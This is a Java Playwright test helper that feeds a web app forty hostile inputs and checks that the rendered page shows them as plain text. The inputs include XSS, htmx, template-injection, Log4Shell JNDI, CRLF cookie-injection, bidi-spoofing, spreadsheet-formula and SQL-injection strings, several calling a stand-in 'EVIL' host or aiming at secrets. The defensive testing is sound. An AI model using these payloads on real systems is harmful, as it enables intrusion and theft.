package dev.sealwatch.pages;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import java.util.List;
import java.util.stream.IntStream;

/** Forty things that attackers write where others read them, and how a page looks that took them for mere text. */
public final class Hostile {

    private static final List<String> FORMS = List.of(
            "<script>alert(1)</script>",
            "<script src=http:EVIL></script>",
            "</td></table><script>fetch('EVIL')</script>",
            "<ScRiPt\n>alert(1)</ScRiPt >",
            "<img src=http:EVIL>",
            "<img src=x onerror=\"fetch('EVIL')\">",
            "'\"><svg onload=alert(1)>",
            "\" autofocus onfocus=alert(1) x=\"",
            "<iframe src=http:EVIL></iframe>",
            "<style>@import url(EVIL)</style>",
            "<base href=http:EVIL>",
            "<form action=http:EVIL><button>go</button></form>",
            "</textarea></title><script>alert(1)</script>",
            "--><script>alert(1)</script><!--",
            "javascript:alert(1)//",
            "<a href=\"javascript:alert(1)\">go</a>",
            "<meta http-equiv=refresh content=\"0;url=http:EVIL\">",
            "<div hx-get=\"EVIL\" hx-trigger=\"load\">go</div>",
            "<div data-hx-post=\"EVIL\" hx-trigger=\"load\">go</div>",
            "<b hx-on::load=\"alert(1)\">go</b>",
            "hx-get=EVIL hx-trigger=load",
            "{cdi:frames.toString}",
            "{frame.session.csrf}",
            "{#include security/users /}",
            "{config:'log.signature.secret'}",
            "{|raw|}{siem:title}",
            "${jndi:ldap:EVIL}",
            "${${lower:j}ndi:rmi:EVIL}",
            "${env:LOG_SIGNATURE_SECRET}",
            "#{7*7}[[${7*7}]]<%= 7*7 %>",
            "\u001B[31mred\u001B[0m",
            "\u001B]8;;http:EVIL\u0007go\u001B]8;;\u0007",
            "first\r\nSet-Cookie: siem_session=x\r\nsecond",
            "back\b\b\b\bspace\u007F\u0085",
            "\u202Egpj.exe",
            "\u2066isolated\u2069 \u202Aembedded\u202C \u061Cmark",
            "zero\u200Bwidth\u200D\uFEFF\u00ADsoft",
            "=HYPERLINK(\"http:EVIL\",\"go\")",
            "'; drop table users; --",
            "A".repeat(10_000));

    /** @param evil what they would have asked for: {@code //host:port/evil} */
    public static List<String> texts(String evil) {
        return IntStream.range(0, FORMS.size())
                .mapToObj(i -> FORMS.get(i).replace("EVIL", evil) + " n" + i)
                .toList();
    }

    /** Says, by line, what a page holds that is no mere text, leads elsewhere, hides something or reaches over the edge. */
    private static final String LOOK = """
            () => {
              const wrong = [];
              const made = "script:not([src^='webjars/']):not([src^='assets/']), img, iframe, object, embed, style, "
                + "base:not([href='/']), meta[http-equiv], [onerror], [onload], [onfocus], [hx-get]:not(#poll[hx-get=''], #news[hx-get^='security/']), [data-hx-post], "
                + "[style]";
              document.querySelectorAll(made).forEach(one => wrong.push('made: ' + one.outerHTML.slice(0, 200)));
              for (const name of ['href', 'action', 'formaction', 'src']) {
                document.querySelectorAll(`[${name}]`).forEach(one => {
                  const to = new URL(one.getAttribute(name), document.baseURI);
                  if (to.origin !== location.origin || to.pathname.startsWith('/evil')) wrong.push('leads to ' + to);
                });
              }
              const hidden = /[\\u0000-\\u0008\\u000b-\\u001f\\u007f-\\u009f\\u00ad\\u061c\\u200b-\\u200f\\u2028-\\u202e\\u2060-\\u206f\\ufeff]/;
              const texts = document.createTreeWalker(document.documentElement, NodeFilter.SHOW_TEXT);
              while (texts.nextNode()) {
                const text = texts.currentNode;
                if (hidden.test(text.data) && text.parentElement.tagName !== 'TEXTAREA') {
                  wrong.push('hidden in ' + text.parentElement.outerHTML.slice(0, 200));
                }
              }
              const kept = ['value', 'href', 'action', 'formaction'];
              document.querySelectorAll('*').forEach(one => [...one.attributes].forEach(attribute => {
                if (!kept.includes(attribute.name) && hidden.test(attribute.value)) {
                  wrong.push('hidden in ' + attribute.name + ' of ' + one.outerHTML.slice(0, 200));
                }
              }));
              return wrong;
            }
            """;

    private static final String WIDTH = "document.documentElement.scrollWidth";

    private Hostile() {}

    /** Also on a telephone. */
    public static void isHarmlessIn(Page page) {
        assertThat((List<?>) page.evaluate(LOOK)).as(page.url()).isEmpty();
        page.setViewportSize(320, 900);
        assertThat((Integer) page.evaluate(WIDTH)).as("width of %s", page.url()).isLessThanOrEqualTo(320);
        page.setViewportSize(1280, 900);
    }

    /** At most so many characters of it, as where a field takes no more. */
    public static String cut(String text, int characters) {
        return text.substring(0, Math.min(characters, text.length()));
    }
}
